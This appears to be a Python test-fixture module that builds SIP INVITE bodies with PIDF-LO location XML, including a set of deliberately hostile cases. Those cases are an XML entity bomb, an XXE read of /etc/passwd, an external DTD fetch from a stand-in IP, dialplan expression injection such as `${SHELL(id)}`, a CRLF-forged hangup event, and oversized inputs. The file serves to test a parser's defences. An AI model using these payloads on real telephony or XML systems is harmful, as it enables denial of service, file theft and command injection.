"""INVITEs with a location as carriers send it (RFC 6442, RFC 4119, RFC 5139, RFC 5491), and as they should not."""

from typing import Final

from ..raw_callers.trunk import SDP

BOUNDARY: Final = "cc110-body"
_PIDF: Final = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<presence xmlns="urn:ietf:params:xml:ns:pidf" xmlns:gp="urn:ietf:params:xml:ns:pidf:geopriv10"'
    ' xmlns:dm="urn:ietf:params:xml:ns:pidf:data-model" xmlns:gml="http://www.opengis.net/gml"'
    ' xmlns:gs="http://www.opengis.net/pidflo/1.0"'
    ' xmlns:cl="urn:ietf:params:xml:ns:pidf:geopriv10:civicAddr" entity="pres:caller@carrier.example">'
    '<dm:device id="d1"><gp:geopriv><gp:location-info>{}</gp:location-info><gp:usage-rules/>'
    "<gp:method>Cell</gp:method></gp:geopriv></dm:device></presence>"
)
_EARTH: Final = 'srsName="urn:ogc:def:crs:EPSG::4326"'


def pidf(location: str) -> str:
    """A document with that location."""
    return _PIDF.format(location)


def point(lat: object, lon: object) -> str:
    """A point in degrees."""
    return f"<gml:Point {_EARTH}><gml:pos>{lat} {lon}</gml:pos></gml:Point>"


def circle(lat: object, lon: object, metres: int = 500) -> str:
    """What a mobile network knows of a cell."""
    unit = 'uom="urn:ogc:def:uom:EPSG::9001"'
    radius = f"<gs:radius {unit}>{metres}</gs:radius>"
    return f"<gs:Circle {_EARTH}><gml:pos>{lat} {lon}</gml:pos>{radius}</gs:Circle>"


def polygon(*corners: tuple[float, float]) -> str:
    """A cell's sector."""
    ring = "".join(f"<gml:pos>{lat} {lon}</gml:pos>" for lat, lon in (*corners, corners[0]))
    inside = f"<gml:exterior><gml:LinearRing>{ring}</gml:LinearRing></gml:exterior>"
    return f"<gs:Polygon {_EARTH}>{inside}</gs:Polygon>"


def civic(**fields: str) -> str:
    """An address: A1 province, A2 regency, A3 city."""
    said = "".join(f"<cl:{name}>{value}</cl:{name}>" for name, value in fields.items())
    return f'<cl:civicAddress xml:lang="id"><cl:country>ID</cl:country>{said}</cl:civicAddress>'


def with_location(document: str, *, cid: str = "place@carrier.example") -> tuple[str, str]:
    """Content type and body of an INVITE: the offer, and the document by its Content-ID."""
    parts = (
        ("Content-Type: application/sdp", SDP),
        (f"Content-Type: application/pidf+xml\r\nContent-ID: <{cid}>", document),
    )
    body = "".join(f"--{BOUNDARY}\r\n{head}\r\n\r\n{text}\r\n" for head, text in parts)
    return f"multipart/mixed;boundary={BOUNDARY}", f"{body}--{BOUNDARY}--\r\n"


BOMB: Final = "".join(
    f'<!ENTITY {chr(98 + at)} "{("&" + chr(97 + at) + ";") * 10}">' for at in range(9)
)


def hostile() -> dict[str, tuple[str, str]]:
    """By a name for each: the Geolocation header and the document."""
    good, here = pidf(point(3.59, 98.67)), "<cid:place@carrier.example>"
    declared = good.replace("<presence", "<!DOCTYPE p [{}]><presence", 1)
    named = pidf(civic(A2="&x;"))
    declared_name = named.replace("<presence", "<!DOCTYPE p [{}]><presence", 1)
    return {
        "no document": ("<cid:other@carrier.example>", good),
        "broken": (here, good[:-40]),
        "no XML": (here, "\x00\x01 hello"),
        "empty": (here, ""),
        "60 kB in a name": (here, pidf(civic(A2="M" * 58_000))),
        "60 kB of points": (here, pidf(polygon(*[(3.5, 98.6)] * 1_400))),
        "nested": (here, pidf("<a>" * 8_000 + "</a>" * 8_000)),
        "a bomb": (here, declared_name.format(f'<!ENTITY a "aaaaaaaaaa">{BOMB}').replace("&x;", "&j;")),
        "a file": (here, declared_name.format('<!ENTITY x SYSTEM "file:///etc/passwd">')),
        "a DTD": (here, declared.format('<!ENTITY % x SYSTEM "http://192.0.2.1/x.dtd"> %x;')),
        "no number": (here, pidf(point("NaN", "1e999"))),
        "beyond the world": (here, pidf(point(910, 1066))),
        "an expression": (here, pidf(civic(A2="${HANGUP(21)}$[1/0]", A1="${SHELL(id)}"))),
        "a forged event": (here, pidf(civic(A2="Kota&#13;&#10;Event: Hangup&#13;&#10;X", A3='"),('))),
        "other forms": (here, pidf(civic(A2="(" * 300 + ",A2=" * 50 + "~" * 300))),
        "a header of 3 kB": (f"<cid:{'x' * 3000}@carrier.example>", good),
        "a header of junk": ("cid:place <<<>>>,,,;\t\"", good),
        "an address of a server": ("<https://lis.carrier.example/abc>", good),
        "many references": (", ".join([here] * 60), good),
    }  # fmt: skip
